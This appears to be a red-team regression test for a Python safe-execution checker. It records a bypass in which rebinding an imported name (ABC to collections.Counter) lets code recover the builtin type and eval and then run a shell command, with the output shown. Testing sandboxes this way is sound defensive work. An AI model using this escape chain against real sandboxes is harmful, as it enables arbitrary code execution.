# expect: reject unbound
# line: 34
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fifteenth red team (round 15a), family R: a name bound by an import is trusted although the program binds it again (assignment, global in a function, for target, walrus): every recogniser of a library object by its name asks that the import be the name's only binding (wk_import_only) (the red team's program, ok_14)
# Mechanism: closed classes recognise the base abc.ABC by its import binding alone (classes.c 
# is_abc_name: wk_bound_value(name) is 'abc.ABC'), without asking whether the program binds the 
# name again. 'from abc import ABC' then 'ABC = collections.Counter' (a library class bound to a 
# plain name is allowed): class C(ABC) derives from Counter, yet C.copy(P) is accepted (the same 
# read through C in a list is refused as a library-derived class, so the judgement of C.copy 
# follows the import). C.copy(P) = Counter.copy(P) = P.__class__(P): the builtin type. No dunder 
# name is given to a builtin at run time.
# Goal reached: the builtin type by value, then eval (11b end gadget): runs id.
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD 7bb35ca
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing
from abc import ABC

ABC = collections.Counter


class P:
    pass


class C(ABC):
    pass


T = C.copy(P)
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
